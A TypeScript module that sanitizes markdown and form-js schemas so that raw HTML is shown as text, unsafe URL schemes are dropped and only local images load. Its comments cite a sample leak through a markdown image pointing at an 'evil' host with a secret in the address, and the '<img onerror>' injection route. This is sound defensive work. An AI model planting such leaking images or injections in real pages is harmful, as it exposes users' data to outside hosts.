import { Marked, type Token } from 'marked';

/**
 * Markdown for form-js text views without any markup of its own. form-js renders a `text`
 * component as markdown → HTML and sanitizes that with a small allow-list, then builds the result
 * with `innerHTML` (also in a detached element, where an `<img onerror>` still fires). Raw HTML
 * in the text, or in a variable a template inserts into it, is the way in; so here it never
 * becomes markup: every HTML token (block or inline) is printed as text, and link and image
 * targets keep only http(s), mailto and relative URLs. The page's CSP stays as the second line.
 */
const SAFE_URL = /^(?:https?:|mailto:|[^:]*$)/i;

export function safeUrl(url: string): string {
  // what a browser ignores inside a URL scheme (control characters and spaces) must not hide `javascript:`
  const compact = url.replace(/[\u0000-\u0020\u007f-\u00a0]/g, '');
  return SAFE_URL.test(compact) ? url : '#';
}

/**
 * Images load by themselves, so an image from another host would tell that host that the task was
 * opened, and a template in its address (`![x](https://evil/?{{secret}})`) would send it process
 * data. Only images of this server (relative addresses) and `data:image/…` load; others are shown
 * as links the user may follow.
 */
export function isLocalImage(url: string): boolean {
  const compact = url.replace(/[\u0000-\u0020\u007f-\u00a0]/g, '');
  if (/^data:image\//i.test(compact)) return true;
  try {
    return new URL(compact, 'http://this-server.invalid/').origin === 'http://this-server.invalid';
  } catch {
    return false;
  }
}

const escapeText = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

const marked = new Marked({
  gfm: true,
  breaks: true,
  walkTokens(token: Token) {
    if (token.type === 'link') token.href = safeUrl(token.href);
    if (token.type === 'image' && !isLocalImage(token.href)) token.href = safeUrl(token.href);
  },
  renderer: {
    html: ({ text }) => escapeText(text),
    // false: marked's own rendering of a local image
    image: ({ href, text }) => (isLocalImage(href) ? false : `<a href="${escapeText(href)}">${escapeText(text || href)}</a>`),
  },
});

/** Markdown → HTML in which every tag and attribute was written by the markdown renderer itself. */
export function renderSafeMarkdown(markdown: string): string {
  return marked.parse(markdown, { async: false });
}

/** A form-js schema component, as far as this file needs to know it. */
interface Component {
  type?: unknown;
  content?: unknown;
  source?: unknown;
  alt?: unknown;
  components?: unknown;
  [key: string]: unknown;
}

/** An image view as a text view: its markdown image then goes through the rules above (templates in the address included). */
function imageAsText(component: Component): Component {
  const { source, alt, ...rest } = component;
  const address = typeof source === 'string' ? source : '';
  const label = (typeof alt === 'string' && alt) || 'image';
  // a FEEL address (`=…`) is computed by form-js where these rules cannot see it: shown, not loaded
  const text = address.startsWith('=') ? `Image from an expression, not loaded: \`${address.replace(/`/g, "'")}\`` : `![${label.replace(/[[\]]/g, '')}](<${address.replace(/[<>]/g, '')}>)`;
  return { ...rest, type: 'text', text };
}

/**
 * The schema with every `html` view turned into a `text` view of the same content, which then
 * shows its markup as literal text instead of running it (form-js feeds `html` views to the page
 * as HTML after its own DOMPurify pass), and every `image` view into a text view with a markdown
 * image, so that only local images load. Nothing is dropped: the content stays visible.
 * Nested components (groups, dynamic lists) are walked too; the input is not modified.
 */
export function neutralizeFormSchema<T>(schema: T): T {
  const walk = (value: unknown): unknown => {
    if (Array.isArray(value)) return value.map(walk);
    if (value === null || typeof value !== 'object') return value;
    const component = value as Component;
    const copy: Component = { ...component };
    if (Array.isArray(component.components)) copy.components = component.components.map(walk);
    if (component.type === 'html') {
      delete copy.content;
      copy.type = 'text';
      copy.text = typeof component.content === 'string' ? component.content : '';
    }
    if (component.type === 'image') return imageAsText(copy);
    return copy;
  };
  return walk(schema) as T;
}
